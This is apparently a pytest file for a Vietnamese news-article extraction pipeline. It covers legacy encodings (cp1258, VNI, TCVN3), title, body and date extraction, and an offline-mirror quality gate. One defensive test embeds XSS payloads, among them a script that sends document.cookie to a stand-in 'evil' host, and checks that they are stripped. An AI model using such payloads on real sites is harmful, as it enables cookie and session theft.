"""Extraction: encodings (cp1258, lying charsets, VNI, TCVN3), main text, title, dates, ids."""

from __future__ import annotations

import json
import unicodedata
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from duluan.config.models import Source
from duluan.crawlers import canonical_url
from duluan.errors import ExtractError
from duluan.mirror import ROOT as MIRROR_ROOT
from duluan.pipeline.decode import EncodingError, decode_html, tcvn3_to_unicode, vni_to_unicode
from duluan.pipeline.extract import error_kind, extract, parse_vietnamese_date
from duluan.records import Link, RawPage, article_id
from test_crawlers_support import article_html

MIRROR = MIRROR_ROOT
SRC = Source(id="t", name="T", kind="domestic", feeds=["https://bao.example.vn/rss.xml"])
PARAS = ["Sáng nay, Ủy ban nhân dân thành phố Hải Phòng tổ chức họp báo công bố kết quả phát triển kinh tế sáu tháng đầu năm.",
         "Theo báo cáo, tổng sản phẩm trên địa bàn tăng trưởng cao, thu hút đầu tư nước ngoài đạt hơn hai tỷ đô la Mỹ.",
         "Người dân và doanh nghiệp đánh giá cao việc cải cách thủ tục hành chính của thành phố trong thời gian qua."]
TITLE = "Hải Phòng công bố kết quả kinh tế sáu tháng đầu năm"


def raw(body: bytes, ctype: str = "text/html; charset=utf-8", url: str = "https://bao.example.vn/a-b-c-1.html",
        link: Link | None = None) -> RawPage:
    return RawPage(url=url, final_url=url, status=200, headers={"content-type": ctype}, body=body,
                   fetched_at=datetime.now(timezone.utc), source_id="t", link=link)


def test_clean_article_title_body_date_id():
    url = "https://bao.example.vn/thoi-su/hai-phong-123.html?utm_source=fb"
    a = extract(raw(article_html(TITLE, PARAS).encode(), url=url), SRC)
    assert a.title == TITLE
    assert a.body == "\n".join(PARAS)
    assert a.published == datetime(2025, 7, 14, 1, 30, tzinfo=timezone.utc)
    assert a.id == article_id(canonical_url(url)) and "utm_source" not in a.url
    assert a.language == "vi" and a.source == "t" and a.source_kind == "domestic" and len(a.raw_sha256) == 64
    for junk in ("tracking", "color:red", "Quảng cáo", "Tin liên quan", "Bình luận", "Giấy phép", "Trang chủ"):
        assert junk not in a.body


def test_cp1258_combining_tones_become_nfc():
    body = article_html(TITLE, PARAS).replace('charset="utf-8"', 'charset="windows-1258"')
    data = _cp1258(body)
    a = extract(raw(data, "text/html; charset=windows-1258"), SRC)
    assert a.title == TITLE and a.body == "\n".join(PARAS)
    assert unicodedata.is_normalized("NFC", a.body)


def _cp1258(text: str) -> bytes:
    """Encode as Windows-1258 the way Vietnamese Windows software does: base letter + combining tone."""
    out = bytearray()
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            nfd = unicodedata.normalize("NFD", ch)
            tones = [c for c in nfd if c in "\u0300\u0301\u0303\u0309\u0323"]
            base = unicodedata.normalize("NFC", "".join(c for c in nfd if c not in tones))
            out += base.encode("cp1258") + "".join(tones).encode("cp1258")
    return bytes(out)


def test_cp1258_bytes_declared_utf8():
    data = _cp1258(article_html(TITLE, PARAS))
    a = extract(raw(data, "text/html; charset=utf-8"), SRC)
    assert a.title == TITLE and a.body.startswith(PARAS[0])


def test_utf8_bytes_behind_a_lying_meta_charset():
    body = article_html(TITLE, PARAS).replace('charset="utf-8"', 'charset="iso-8859-1"')
    a = extract(raw(body.encode("utf-8"), "text/html"), SRC)
    assert a.title == TITLE and a.body == "\n".join(PARAS)


# Written by hand from the VNI and TCVN3 charts, not generated from our tables.
VNI_SAMPLE = ("Haø Noäi", "Vieät Nam", "Ngöôøi daân", "ñöôïc", "Ñaø Naüng", "kyû luïc", "Cöûu Long", "tænh", "Hoà Chí Minh", "thò")
TCVN3_SAMPLE = ("Hµ Néi", "ViÖt Nam", "Ng­êi d©n", "®­îc", "§µ N½ng", "kü thuËt", "Cöu Long", "tØnh", "chÞ", "x· héi")
UNICODE = ("Hà Nội", "Việt Nam", "Người dân", "được", "Đà Nẵng", None, "Cửu Long", "tỉnh", None, None)


@pytest.mark.parametrize("vni,uni", [(v, u) for v, u in zip(VNI_SAMPLE, UNICODE) if u] + [
    ("kyû luïc", "kỷ lục"), ("Hoà Chí Minh", "Hồ Chí Minh"), ("thò", "thị")])
def test_vni_table(vni, uni):
    assert vni_to_unicode(vni) == uni


@pytest.mark.parametrize("tcvn,uni", [(t, u) for t, u in zip(TCVN3_SAMPLE, UNICODE) if u and t != "Cöu Long"] + [
    ("kü thuËt", "kỹ thuật"), ("chÞ", "chị"), ("x· héi", "xã hội"), ("Cña", "Của"), ("n¨m", "năm")])
def test_tcvn3_table(tcvn, uni):
    assert tcvn3_to_unicode(tcvn) == uni


def test_vni_page_declared_windows_1252():
    html = ('<html><head><meta charset="windows-1252"></head><body><h1>Vieät Nam xuaát khaåu gaïo</h1><article>'
            + "".join(f"<p>{p}</p>" for p in ["Theo soá lieäu thoáng keâ, kim ngaïch xuaát khaåu gaïo cuûa Vieät Nam "
                                               "trong saùu thaùng ñaàu naêm ñaït möùc cao nhaát töø tröôùc ñeán nay.",
                                               "Noâng daân ñoàng baèng soâng Cöûu Long phaán khôûi vì luùa ñöôïc "
                                               "thöông laùi thu mua ngay taïi ruoäng."]) + "</article></body></html>")
    a = extract(raw(html.encode("cp1252"), "text/html; charset=windows-1252"), SRC)
    assert a.title == "Việt Nam xuất khẩu gạo"
    assert "Nông dân đồng bằng sông Cửu Long phấn khởi vì lúa được thương lái" in a.body


def test_tcvn3_page_declared_latin1():
    html = ('<html><head><meta charset="iso-8859-1"></head><body><h1>Héi nghÞ tæng kÕt c«ng t¸c th«ng tin</h1><article>'
            "<p>Ngµy 20 th¸ng 12, héi nghÞ tæng kÕt c«ng t¸c th«ng tin ®èi ngo¹i n¨m 2025 ®­îc tæ chøc t¹i héi tr­êng lín "
            "víi sù tham gia cña c¸c c¬ quan b¸o chÝ trong vµ ngoµi n­íc.</p></article></body></html>")
    a = extract(raw(html.encode("latin-1"), "text/html; charset=iso-8859-1"), SRC)
    assert a.title == "Hội nghị tổng kết công tác thông tin"
    assert a.body.startswith("Ngày 20 tháng 12, hội nghị tổng kết công tác thông tin đối ngoại năm 2025 được tổ chức")


def test_real_unicode_is_never_converted_as_legacy():
    for text in ("Phở bò ở phố cổ Hội An, cà phê sữa đá, bánh mì ôm trọn hương vị.",):
        assert decode_html(f"<p>{text}</p>".encode()).text == f"<p>{text}</p>"


def test_binary_garbage_is_an_encoding_error():
    with pytest.raises(EncodingError) as exc:
        decode_html(bytes(range(0, 32)) * 200, "text/html")
    assert error_kind(exc.value) == "encoding"


def test_page_without_text_is_extract_error():
    with pytest.raises(ExtractError) as exc:
        extract(raw(b"<html><body><nav><a href='/'>Trang ch\xe1\xbb\xa7</a></nav></body></html>"), SRC)
    assert error_kind(exc.value) == "extract" and "bao.example.vn" in str(exc.value)


def test_non_html_content_type_is_extract_error():
    with pytest.raises(ExtractError):
        extract(raw(b"\x89PNG....", "image/png"), SRC)


def test_script_injection_never_reaches_title_or_body():
    html = ('<html><head><title>Tin<script>alert(1)</script></title></head><body><h1>Quảng Ninh công bố chỉ số<script>alert(1)</script></h1>'
            '<article><p>' + PARAS[0] + '<script>document.location="http://evil/?"+document.cookie</script></p>'
            '<p onmouseover="alert(2)">' + PARAS[1] + '<img src=x onerror="alert(3)"></p><style>p{color:red}</style></article></body></html>')
    a = extract(raw(html.encode()), SRC)
    assert a.title == "Quảng Ninh công bố chỉ số"
    for bad in ("<script", "alert(", "onerror", "document.cookie", "color:red", "javascript:"):
        assert bad not in a.title + a.body


@pytest.mark.parametrize("text,expected", [
    ("Thứ hai, 14/7/2025, 08:30 (GMT+7)", datetime(2025, 7, 14, 8, 30, tzinfo=timezone(timedelta(hours=7)))),
    ("Cập nhật: 08:30 14/07/2025", datetime(2025, 7, 14, 8, 30, tzinfo=timezone(timedelta(hours=7)))),
    ("Thứ Ba, 01-07-2025 09h15", datetime(2025, 7, 1, 9, 15, tzinfo=timezone(timedelta(hours=7)))),
    ("ngày 2 tháng 9 năm 2025", datetime(2025, 9, 2, tzinfo=timezone(timedelta(hours=7)))),
    ("không có ngày", None), ("31/02/2025", None)])
def test_vietnamese_dates(text, expected):
    assert parse_vietnamese_date(text) == expected


def test_feed_date_is_the_fallback():
    html = "<html><body><h1>" + TITLE + "</h1><article>" + "".join(f"<p>{p}</p>" for p in PARAS) + "</article></body></html>"
    when = datetime(2025, 3, 1, 2, 0, tzinfo=timezone.utc)
    link = Link(url="https://bao.example.vn/a-b-c-1.html", source_id="t", via="feed", published=when)
    assert extract(raw(html.encode(), link=link), SRC).published == when


def test_english_page_on_english_source():
    src = Source(id="e", name="E", kind="foreign", language="en", feeds=["https://e.example/rss"])
    html = ("<html><head><meta property='article:published_time' content='2025-07-14T08:30:00+07:00'></head><body>"
            "<h1>Hai Phong port expands</h1><article><p>The city of Hai Phong said on Monday that the new container "
            "terminal is open for the largest ships and that the port will handle more cargo this year.</p>"
            "<p>Officials said the investment was made with foreign partners and was completed ahead of time.</p>"
            "</article></body></html>")
    a = extract(raw(html.encode()), src)
    assert a.language == "en" and a.title == "Hai Phong port expands"
    assert a.published == datetime(2025, 7, 14, 1, 30, tzinfo=timezone.utc)


# -- quality gate on the offline mirror (trafilatura tests/eval_gate.py style) --

def _mirror_cases():
    if not (MIRROR / "manifest.json").exists():
        return []
    out = []
    for m in json.loads((MIRROR / "manifest.json").read_text("utf-8")):
        f = MIRROR / "sites" / m["path"].lstrip("/")
        f = f / "index.html" if f.is_dir() else f
        if f.is_file():
            out.append((m, f))
    return out


def _tokens(text: str) -> list[str]:
    return text.split()


def test_mirror_extraction_quality_gate():
    cases = _mirror_cases()
    assert len(cases) >= 150, "the offline mirror (mirror/) is part of the repository"
    from collections import Counter
    tp = fp = fn = 0
    titles = 0
    overrides = json.loads((MIRROR / "serve-overrides.json").read_text("utf-8")).get("content_type", {})
    misses = []
    for m, f in cases:
        body = f.read_bytes().replace(b"{{BASE}}", b"http://127.0.0.1:1")
        src = Source(id=m["outlet"], name="x", kind="domestic", language=m.get("language", "vi"),
                     feeds=["http://127.0.0.1:1/rss.xml"])
        a = extract(raw(body, overrides.get(m["path"], "text/html; charset=utf-8"), url="http://127.0.0.1:1" + m["path"]), src)
        got, gold = Counter(_tokens(a.body)), Counter(_tokens(m["gold_body"]))
        common = sum((got & gold).values())
        tp, fp, fn = tp + common, fp + sum(got.values()) - common, fn + sum(gold.values()) - common
        titles += a.title == m["title"]
        if a.title != m["title"]:
            misses.append((m["path"], a.title, m["title"]))
    precision, recall = tp / (tp + fp), tp / (tp + fn)
    assert precision >= 0.97 and recall >= 0.97, (precision, recall)
    assert titles >= 0.95 * len(cases), misses
